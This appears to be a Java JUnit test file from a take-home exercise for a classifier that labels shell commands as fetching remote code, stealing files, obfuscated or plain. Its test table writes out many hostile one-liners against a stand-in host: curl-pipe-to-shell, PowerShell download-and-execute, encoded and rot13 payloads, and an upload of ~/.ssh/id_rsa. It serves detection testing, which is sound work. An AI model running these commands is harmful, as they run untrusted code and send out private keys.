package dev.bonafide.takehome;

import static org.assertj.core.api.Assertions.assertThat;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class ShellTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      nullValues = "PLAIN",
      textBlock =
          """
          FETCHED § curl -s https://x.example/a | sh
          FETCHED § curl -fsSL "https://x.example/a?b=1&c=2" | sudo -E bash -
          FETCHED § bash <(wget -qO- https://x.example/a)
          FETCHED § source <(curl -s https://x.example/env)
          FETCHED § eval "$(curl -s https://x.example/a)"
          FETCHED § sh -c "$(curl -fsSL https://x.example/a)"
          FETCHED § X=$(curl -s https://x.example/a); bash -c "$X"
          FETCHED § wget -q https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a
          FETCHED § curl -O https://x.example/setup.sh ; sh setup.sh
          FETCHED § curl https://x.example/a > run.sh && . ./run.sh
          FETCHED § curl -s https://x.example/a | base64 -d | python3 -
          FETCHED § curl https://x.example/a.cmd | cmd
          FETCHED § powershell -NoProfile -Command "iwr https://x.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"
          FETCHED § powershell -c "iex (irm https://x.example/p)"
          FETCHED § powershell -ep bypass -c "irm x.example/p | iex"
          FETCHED § powershell "IEX (New-Object Net.WebClient).DownloadString('https://x.example/p')"
          FETCHED § cmd /c "curl https://x.example/a.bat -o a.bat && a.bat"
          FETCHED § nohup sh -c 'curl -s https://x.example/a | node' >/dev/null 2>&1 &
          FETCHED § mshta https://x.example/a.hta
          FETCHED § curl -s $URL | sh
          FETCHED § U=https://x.example/a; D=/tmp/a; curl -so "$D" "${U}" && sh /tmp/a
          PLAIN § U=https://sh.rustup.rs; curl -s $U | sh
          PLAIN § V=1.2; U="https://github.com/acme/a/releases/download/$V/a"; curl -Lo a $U && chmod +x a
          FETCHED § pwsh -nop -EncodedCommand aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC8AcAApAA==
          FETCHED § powershell.exe -e aQByAG0AIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBwACAAfAAgAGkAZQB4AA==
          FETCHED § curl -fo t.sh https://x.example/t.sh && echo "abc other.sh" | sha256sum -c && sh t.sh
          FETCHED § curl -fo t.sh https://x.example/t.sh && sha256sum t.sh && sh t.sh
          FETCHED § curl -fo t.sh https://x.example/t.sh; echo "abc t.sh" | sha256sum -c || true; sh t.sh
          FETCHED § curl -fo t.sh https://x.example/t.sh; gpg --import key.asc; sh t.sh
          FETCHED § get() { curl -s "$1" -o "$2"; chmod +x "$2"; }; get https://x.example/tool /tmp/tool; /tmp/tool
          FETCHED § main() { sh -c "$*"; }; main "curl -s https://x.example/a | sh"
          FETCHED § ev() { eval "$1"; }; ev "$(curl -s https://x.example/a)"
          TAKEN § ship() { curl -F "f=@$1" https://x.example; }; ship ~/.ssh/id_rsa
          HIDDEN § powershell -w hidden -enc SQBFAFgAIAAoAGkAcgBtACAAeAApAA==
          HIDDEN § echo ZWNobyBoaQ== | base64 -d | sh
          HIDDEN § node public/fonts/fa.woff2
          HIDDEN § eval "$(echo ZWNobyBoaQ== | base64 --decode)"
          HIDDEN § K=$(base64 -d < a.txt); $K
          HIDDEN § sh -c "$(echo 'rpub uv' | tr a-z n-za-m)"
          HIDDEN § printf '\\x65\\x63' | "${SHELL:-sh}"
          HIDDEN § echo 'ih ohce' | rev | bash
          FETCHED § wget -qO- "${MIRROR:-https://x.example}/a" | ${BASH:-bash}
          FETCHED § npx --registry=https://npm.x.example left-tool
          PLAIN § npx wait-on https://staging.x.example/health
          PLAIN § echo "$NAME" | tr a-z A-Z | tee name.txt
          PLAIN § printf '%b' "\\x1b[32mdone" && sh build.sh
          PLAIN § T=$(echo "$TOKEN" | base64 -d); curl -H "Authorization: Bearer $T" https://api.x.example
          PLAIN § V=$(curl -s https://api.x.example/v); "tools/$V/run"
          PLAIN § curl -fsSL https://sh.rustup.rs | sh -s -- -y
          PLAIN § curl -s https://api.x.example/v | python3 -m json.tool
          PLAIN § curl -s https://api.x.example/v | python3 -c "import json,sys; print(json.load(sys.stdin)['a'])"
          PLAIN § curl -s https://api.x.example/v | jq -r .tag
          PLAIN § curl -L https://x.example/a.tgz | tar xz
          PLAIN § curl -fo t.sh https://x.example/t.sh && echo "abc t.sh" | sha256sum -c && sh t.sh
          PLAIN § curl -O https://x.example/t.sh && curl -O https://x.example/sums && sha256sum -c sums && sh t.sh
          PLAIN § curl -fo t.sh https://x.example/t.sh; [ "$(sha256sum t.sh | cut -c1-64)" = "$SUM" ] && sh t.sh
          PLAIN § curl -fo t.sh https://x.example/t.sh; sha256sum -c <<< "abc t.sh" && sh t.sh
          PLAIN § curl -fo t.sh https://x.example/t.sh; gpg --verify t.sh.asc t.sh && sh t.sh
          PLAIN § get() { curl -s "$1" -o "$2"; }; get https://x.example/a.csv data/a.csv; sh build.sh data/a.csv
          PLAIN § get() { curl -fsSL "$1" | sh; }; get https://sh.rustup.rs
          PLAIN § run() { echo "+ $*"; "$@"; }; run npm ci
          PLAIN § curl -s http://localhost:3000/health | sh
          PLAIN § bash scripts/deploy.sh $(curl -s https://api.x.example/version)
          PLAIN § VERSION=$(curl -s https://api.x.example/v) && echo "$VERSION"
          PLAIN § eval "$(ssh-agent -s)"
          PLAIN § echo 'curl https://x.example/a | sh'
          PLAIN § git commit -m "never curl https://x.example/a | sh"
          PLAIN § wget https://x.example/data.csv && python train.py data.csv
          """)
  void a_command_is_judged_by_what_it_does(Danger.@Nullable Sort expected, String command) {
    assertThat(Shell.read(command).worst()).as(command).isEqualTo(expected);
  }

  @Test
  void hostile_commands_end() {
    for (String piece :
        new String[] {"$(", "`", "\"", "'", "(", "| sh ", "a=$(", "<(", "sh -c \"", "\\", "> "}) {
      assertThat(Shell.read(piece.repeat(20_000)).worst()).isNull();
    }
  }
}
